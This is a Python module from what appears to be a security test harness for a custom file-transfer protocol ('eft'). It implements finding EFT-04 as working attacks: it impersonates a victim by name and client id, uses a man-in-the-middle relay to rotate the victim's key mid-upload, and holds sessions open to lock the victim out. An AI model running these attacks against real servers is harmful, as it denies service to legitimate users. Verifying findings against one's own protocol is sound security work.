"""Reconnect as the victim: anyone who knows its name and id gets a 1605.

827 carries only a name and a client id, both in the clear on every session of the
victim. The server answers with a NEW AES key (wrapped for the victim, so we cannot
read it), and that is all it checks. Two denial-of-service attacks follow:

* ``--during-session`` (a relay in front of the victim): right after the victim gets
  its key, reconnect as it elsewhere. A server that keeps one AES key per client (the
  original design's database column) now decrypts the victim's packets with the new
  key: CRC mismatch, 901, and after four attempts 902. Success if the victim's upload
  fails. A server that keeps the key per connection is not affected.
* default: open ``--sessions`` reconnects as the victim and hold them. A server that
  caps connections per client id (ours: 4) then refuses the victim itself for as
  long as we hold them. Success if our own extra reconnect is refused, since the
  victim's is the same request. Keepalives beat the idle timeout.

``--protocol 4``: logging in (827) needs the victim's static key, proven in message 3.
``--during-session`` tries to log in as the victim's name (``--name``; encrypted on
the wire) with our own key as soon as the victim has its welcome: 1606. The default
mode tries the same ``--sessions`` times and also holds ``--sessions`` handshakes open
without ever authenticating (message 2 received, message 3 never sent): only
authenticated connections count against a client's session cap, so the victim, run
during the hold, must get through.
"""

from __future__ import annotations

import argparse
import asyncio

from eft_protocol.codes import RequestCode, ResponseCode

from .common import (
    AttackError,
    ConnectionClosed,
    Out,
    ServerLink,
    Victim,
    add_listen_argument,
    add_victim_arguments,
    victim_from_args,
)
from .framing import Frame, name_request
from .proxy import Interceptor, MitmConnection, MitmProxy
from .v4 import V4Client, add_protocol_argument, login

FINDING = "EFT-04"
SUMMARY = "unauthenticated reconnect as the victim: key rotation and session-cap lockout"


def add_arguments(parser: argparse.ArgumentParser) -> None:
    parser.add_argument("--target", required=True, help="the eft server, HOST:PORT")
    add_listen_argument(parser)
    add_victim_arguments(parser)
    parser.add_argument("--during-session", action="store_true", help="relay mode, see above")
    parser.add_argument("--sessions", type=int, default=8, help="reconnects to hold (8)")
    parser.add_argument("--hold", type=float, default=10.0, help="seconds to hold them (10)")
    parser.add_argument("--keepalive", type=float, default=20.0, help="seconds between pings")
    add_protocol_argument(parser)


async def reconnect(target: str, victim: Victim) -> tuple[ServerLink | None, int]:
    """(the link if the server granted 1605, else None; the answer code, -1 for closed)."""
    link = await ServerLink.open(target)
    await link.send(name_request(victim.client_id, RequestCode.RECONNECT, victim.name))
    try:
        code = (await link.receive()).code
    except ConnectionClosed:
        code = -1
    if code == ResponseCode.RECONNECT_DENIED:
        await link.close()
        raise AttackError(f"the server does not know {victim.name!r} with that id (1606)")
    if code != ResponseCode.RECONNECTED:
        await link.close()
        return None, code
    return link, code


async def hold(args: argparse.Namespace, out: Out) -> bool:
    victim = victim_from_args(args)
    held: list[ServerLink] = []
    answers = []
    for _ in range(args.sessions):
        link, code = await reconnect(args.target, victim)
        answers.append(code)
        if link is not None:
            held.append(link)
    out.step(f"reconnected as {victim.name!r} {len(held)} time(s)", answers=answers)
    locked = len(held) < args.sessions
    out.event("holding", f"holding {len(held)} sessions for {args.hold:g} s", sessions=len(held))
    loop = asyncio.get_running_loop()
    deadline = loop.time() + args.hold
    while (left := deadline - loop.time()) > 0:
        await asyncio.sleep(min(left, args.keepalive))
        for link in held:  # any request resets the idle timer; 902 here just gets 1607
            await link.send(name_request(victim.client_id, RequestCode.CRC_GIVE_UP, "x"))
            await link.receive()
    still, _ = await reconnect(args.target, victim) if locked else (None, 0)
    for link in held + ([still] if still else []):
        await link.close()
    if locked and still is None:
        return out.result(
            True,
            f"the server refused reconnects as {victim.name!r} once we held {len(held)}: "
            "the victim is locked out for as long as we hold them",
            held=len(held),
            answers=answers,
        )
    return out.result(
        False,
        f"the server granted all {len(held)} reconnects (each rotated the victim's key "
        "in the registry) but set no limit that locks the victim out",
        held=len(held),
        answers=answers,
    )


class Rotate(Interceptor):
    def __init__(self, out: Out, target: str) -> None:
        self.out, self.target = out, target
        self.rotated = False
        self.outcome: list[int] = []

    async def client_frame(self, conn: MitmConnection, frame: Frame) -> None:
        if frame.code in (RequestCode.REGISTER, RequestCode.RECONNECT):
            conn.scratch["name"] = frame.name_field()
        if frame.code in (RequestCode.CRC_OK, RequestCode.CRC_RETRY, RequestCode.CRC_GIVE_UP):
            self.outcome.append(frame.code)
        await conn.to_server(frame.raw)

    async def server_frame(self, conn: MitmConnection, frame: Frame) -> None:
        keyed = (ResponseCode.PUBLIC_KEY_ACCEPTED, ResponseCode.RECONNECTED)
        if frame.code in keyed and not self.rotated:
            victim = Victim(conn.scratch["name"], frame.payload[:16])
            link, code = await reconnect(self.target, victim)
            self.rotated = link is not None
            self.out.step(f"reconnected as the victim before it got its key: {code}")
            if link is not None:
                await link.close()
        elif frame.code == ResponseCode.SERVER_ERROR:
            self.outcome.append(frame.code)
        await conn.to_client(frame.raw)

    async def client_closed(self, conn: MitmConnection) -> None:
        conn.close_server()
        self.proxy.finish(True)


async def hold_v4(args: argparse.Namespace, out: Out) -> bool:
    victim = victim_from_args(args)
    answers = []
    for _ in range(args.sessions):
        client, code = await login(args.target, victim.name)
        await client.close()
        answers.append(code)
    out.step(
        f"logged in as {victim.name!r} with our own key {args.sessions} times", answers=answers
    )
    half_open: list[V4Client] = []
    for _ in range(args.sessions):
        client = await V4Client.open(args.target)
        await client.hello()  # message 2 received; message 3 never comes
        half_open.append(client)
    out.event(
        "holding",
        f"holding {len(half_open)} unauthenticated handshakes for {args.hold:g} s",
        sessions=len(half_open),
    )
    await asyncio.sleep(args.hold)
    still_open = 0
    for client in half_open:
        still_open += not client.link.reader.at_eof()
        await client.close()
    granted = [code for code in answers if code == ResponseCode.RECONNECTED]
    fields = {"answers": answers, "held": 0, "half_open": len(half_open), "still_open": still_open}
    if granted:
        return out.result(True, "the server let us log in as the victim", **fields)
    return out.result(
        False,
        f"every log-in as {victim.name!r} with our key got 1606; the {len(half_open)} "
        "handshakes we held never authenticated, so none counts against the victim's cap",
        **fields,
    )


class RotateV4(Interceptor):
    def __init__(self, out: Out, target: str, name: str | None) -> None:
        self.out, self.target, self.name = out, target, name
        self.answers: list[int] = []
        self.outcome: list[int] = []

    async def client_frame(self, conn: MitmConnection, frame: Frame) -> None:
        if frame.code in (RequestCode.CRC_OK, RequestCode.CRC_RETRY, RequestCode.CRC_GIVE_UP):
            self.outcome.append(frame.code)
        await conn.to_server(frame.raw)

    async def server_frame(self, conn: MitmConnection, frame: Frame) -> None:
        count = conn.scratch["responses"] = conn.scratch.get("responses", 0) + 1
        welcome = frame.code in (ResponseCode.REGISTERED, ResponseCode.RECONNECTED)
        if count == 2 and welcome and not self.answers:
            if not self.name:
                raise AttackError("version 4 encrypts the name: give the victim's --name")
            client, code = await login(self.target, self.name)
            await client.close()
            self.answers.append(code)
            self.out.step(f"logged in as {self.name!r} with our key after its welcome: {code}")
        await conn.to_client(frame.raw)

    async def client_closed(self, conn: MitmConnection) -> None:
        conn.close_server()
        self.proxy.finish(True)


async def during_v4(args: argparse.Namespace, out: Out) -> bool:
    rotate = RotateV4(out, args.target, args.name)
    await MitmProxy(args.target, rotate, out).run(args.listen, args.timeout)
    if ResponseCode.RECONNECTED in rotate.answers:
        return out.result(True, "the server let us log in as the victim", answers=rotate.answers)
    return out.result(
        False,
        f"could not log in as the victim ({rotate.answers}); its upload went on: {rotate.outcome}",
        answers=rotate.answers,
        outcome=rotate.outcome,
    )


async def run(args: argparse.Namespace, out: Out) -> bool:
    if args.protocol == 4:
        return await (during_v4(args, out) if args.during_session else hold_v4(args, out))
    if not args.during_session:
        return await hold(args, out)
    rotate = Rotate(out, args.target)
    await MitmProxy(args.target, rotate, out).run(args.listen, args.timeout)
    broken = any(code != RequestCode.CRC_OK for code in rotate.outcome) or not rotate.outcome
    if not rotate.rotated:
        return out.result(False, "could not reconnect as the victim", outcome=rotate.outcome)
    if broken:
        return out.result(
            True, "the victim's upload failed after our reconnect", outcome=rotate.outcome
        )
    return out.result(
        False,
        "the victim's session kept its own key: its upload was verified (900) although we "
        "rotated the key in the registry",
        outcome=rotate.outcome,
    )
